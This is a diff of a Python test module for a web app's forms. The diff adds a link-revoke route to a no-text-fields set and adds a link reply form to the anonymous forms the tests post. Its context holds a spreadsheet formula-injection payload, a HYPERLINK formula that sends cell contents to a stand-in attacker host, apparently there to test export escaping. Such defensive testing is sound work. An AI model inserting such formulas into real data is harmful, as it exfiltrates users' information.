@@ -50,13 +50,14 @@ NO_TEXT_FIELDS = {
     "reminders.cancel", "reminders.retry", "reminders.pause", "reminders.resolve_problem",
     "reminders.reminder_times", "reviews.standard_checklist", "reviews.standard_categories",
     "reviews.move_checklist_item", "reviews.sign_off", "reviews.start_for_session", "api_tokens.revoke",
-    "reminders_link.office_revoke", "reminders_link.revoke",
+    "reminders_link.office_revoke", "reminders_link.revoke", "reminders_link.own_revoke",
     "reviews.checklist", "reviews.new_note", "logins.change_role", "logins.confirmed", "logins.from_posts",
     "logins.link",
 }
 
 # The forms of someone not signed in: posted by the tests at the end of this module.
-ANONYMOUS_FORMS = {"auth.login", "auth.login_mobile", "auth.login_code"}
+# The reply from a personal link is the same ReplyForm as meetings.reply (which the crawl posts).
+ANONYMOUS_FORMS = {"auth.login", "auth.login_mobile", "auth.login_code", "reminders_link.reply"}
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 # The Hindi of WTForms' Length messages: "अधिकतम %(max)d अक्षर …", "… %(min)d से %(max)d अक्षरों के बीच …".
